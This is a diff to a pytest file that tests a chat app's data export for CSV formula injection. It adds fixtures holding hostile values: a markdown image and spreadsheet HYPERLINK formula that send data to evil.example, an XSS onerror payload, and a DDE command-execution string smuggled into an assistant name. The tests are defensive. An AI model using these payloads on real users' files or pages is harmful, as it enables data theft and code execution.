@@ -11,13 +11,16 @@ import zipfile
 import pytest
 
 from account.archive import export_everything
+from api_bots import create_bot
 from api_sessions import create_session, end_session, rate_session
 from api_users import get_create_user
-from api_util_openai import LLMClient
+from api_util_openai import LLMClient, ModelConfig
 from bots.cards import read_card
+from bots.draft import BotDraft
 from sessions.listing import rename_chat
 from sessions.turn import start_turn
 from tests.builders import make_coach
+from tests.spreadsheets import every_cell_quoted, formula_cells
 from users.drafts import save_draft
 
 HOSTILE_REPLY = "Look: ![pixel](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"
@@ -88,6 +91,40 @@ def test_exported_files_are_safe_to_open(world):
     # The JSON keeps the exact words: it is data, not a document that renders.
     data = json.loads(archive.read("gptlab-export.json"))
     assert HOSTILE_REPLY in [m["content"] for m in data["chats"][0]["messages"]]
+
+
+@pytest.mark.parametrize(
+    "title",
+    ["Totals;=1+1", '=HYPERLINK("https://evil.example/?q="&A1,"Click")', "@SUM(1)", "Plan|-2+3"],
+)
+def test_the_overview_csv_never_lets_a_spreadsheet_formula_through(world, title):
+    store, user, llm, bot_id = world
+    chat = create_session(store, user, llm, bot_id)
+    list(start_turn(store, user, llm, chat, "hello"))
+    rename_chat(store, user, chat.session_id, title)
+    text = opened(export_everything(store, user)).read("chats.csv").decode()
+    assert every_cell_quoted(text) and formula_cells(text) == []
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1].replace("'", "") == title.replace("'", "")
+
+
+def test_an_assistant_name_with_a_line_break_starts_no_formula_in_the_overview(
+    store, llm_server, llm
+):
+    store.set("users/creator", {"bots_created": 0})
+    draft = BotDraft(
+        name="Maya\n=cmd|' /C calc'!A0",
+        tag_line="Career Coach",
+        description="Helps with careers.",
+        initial_prompt="You are Coach Maya.",
+        model_config=ModelConfig("gpt-4o-mini", 300),
+    )
+    bot_id = create_bot(store, "creator", draft)
+    user = sign_in(store, llm_server, "sk-test-alice")
+    list(start_turn(store, user, llm, create_session(store, user, llm, bot_id), "hello"))
+    text = opened(export_everything(store, user)).read("chats.csv").decode()
+    assert every_cell_quoted(text) and formula_cells(text) == []
+    assert list(csv.reader(io.StringIO(text)))[1][2] == "Maya\n'=cmd|' /C calc'!A0"
 
 
 def test_the_export_carries_the_users_own_assistants_as_importable_cards(store, llm_server):
